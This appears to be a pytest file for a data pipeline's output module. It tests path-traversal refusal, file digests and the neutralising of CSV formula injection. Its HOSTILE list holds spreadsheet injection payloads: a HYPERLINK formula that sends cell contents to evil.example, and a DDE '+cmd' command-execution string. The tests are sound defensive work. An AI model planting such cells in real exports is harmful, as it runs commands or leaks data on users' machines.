"""pipeline/outputs/artifacts.py: a file's path inside its cut, and the one way the tool writes a CSV
(cells as a spreadsheet reads them, text that would run as a formula written as text)."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest

import hashlib

from pipeline.errors import UnsafePathError
from pipeline.outputs.artifacts import Artifact, csv_bytes, relative_path


def test_plain_relative_paths_are_accepted():
    assert str(relative_path("web/img/g.svg")) == "web/img/g.svg" and str(relative_path("PEI-sg-2024-T3.pdf")) == "PEI-sg-2024-T3.pdf"


def test_a_path_from_a_manifest_that_climbs_out_is_refused_naming_where_it_came_from():
    with pytest.raises(UnsafePathError, match="sube de carpeta") as raised:
        relative_path("web/../../x.csv", "manifest.json")
    assert "manifest.json" in str(raised.value) and "«web/../../x.csv»" in str(raised.value)


def test_an_artifact_s_digest_is_the_sha256_of_its_bytes():
    made = Artifact("avance.csv", "indicador,valor\nIS-321,87.5\n".encode())
    assert made.sha256 == hashlib.sha256(made.content).hexdigest()
    assert Artifact("avance.csv", b"x").sha256 != Artifact("avance.csv", b"y").sha256


def test_csv_cells():
    frame = pd.DataFrame({"a": [1.0, 2.5, None, 104.16666666666667, 1e-7, 23669955.0], "b": ["x", "y,z", "ñ", "", "", ""]})
    text = csv_bytes(frame).decode("utf-8")
    assert text.splitlines() == ["a,b", "1,x", '2.5,"y,z"', ",ñ", "104.166667,", "0,", "23669955,"]


# --- CSV formula injection (OWASP): text that a spreadsheet would run as a formula -------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def _cells(data: bytes) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_that_starts_a_formula_is_written_as_text(text):
    frame = pd.DataFrame({"objetivo": [1], "indicador": [text], "nombre": [text], "avance": [-12.5]})
    data = csv_bytes(frame)
    header, row = _cells(data)
    assert row[1] == row[2] == "'" + text  # the single quote makes it text; the cell keeps the rest
    assert row[3] == "-12.5" and float(row[3]) == -12.5  # a negative number stays a number
    assert row[0] == "1"
    # A neutralised cell is quoted, so the prefix and the text stay one field.
    line = data.decode("utf-8").split("\n", 1)[1]
    assert line.startswith('1,"\'')


def test_csv_plain_text_and_numbers_are_unchanged_apart_from_quotes():
    frame = pd.DataFrame({"a": [-3.0, 0.0], "b": ["Porcentaje de avance", "a-b = c"], "c": [None, 7]})
    assert _cells(csv_bytes(frame)) == [["a", "b", "c"], ["-3", "Porcentaje de avance", ""], ["0", "a-b = c", "7"]]


def _calc_available() -> bool:
    import shutil

    soffice = shutil.which("soffice")
    return bool(soffice) and any(Path(soffice).resolve().parent.glob("libsclo.so"))


@pytest.mark.skipif(not _calc_available(), reason="LibreOffice Calc is not installed")
def test_libreoffice_evaluates_none_of_the_hostile_cells(tmp_path):
    import subprocess

    from openpyxl import load_workbook

    frame = pd.DataFrame({"indicador": HOSTILE, "avance": [-1.5] * len(HOSTILE)})
    (tmp_path / "avance.csv").write_bytes(csv_bytes(frame))
    # Import as a user who ticks "Evaluate formulas" would (token 13 of the CSV filter options).
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/lo", "--headless", "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
         "--convert-to", "xlsx", "--outdir", str(tmp_path), str(tmp_path / "avance.csv")],
        check=True, capture_output=True, timeout=120,
    )
    sheet = load_workbook(tmp_path / "avance.xlsx").active
    rows = list(sheet.iter_rows(min_row=2, values_only=False))
    assert len(rows) == len(HOSTILE)
    for cell, number in rows:
        assert cell.data_type == "s", f"{cell.value!r} became a formula"
        assert number.value == -1.5
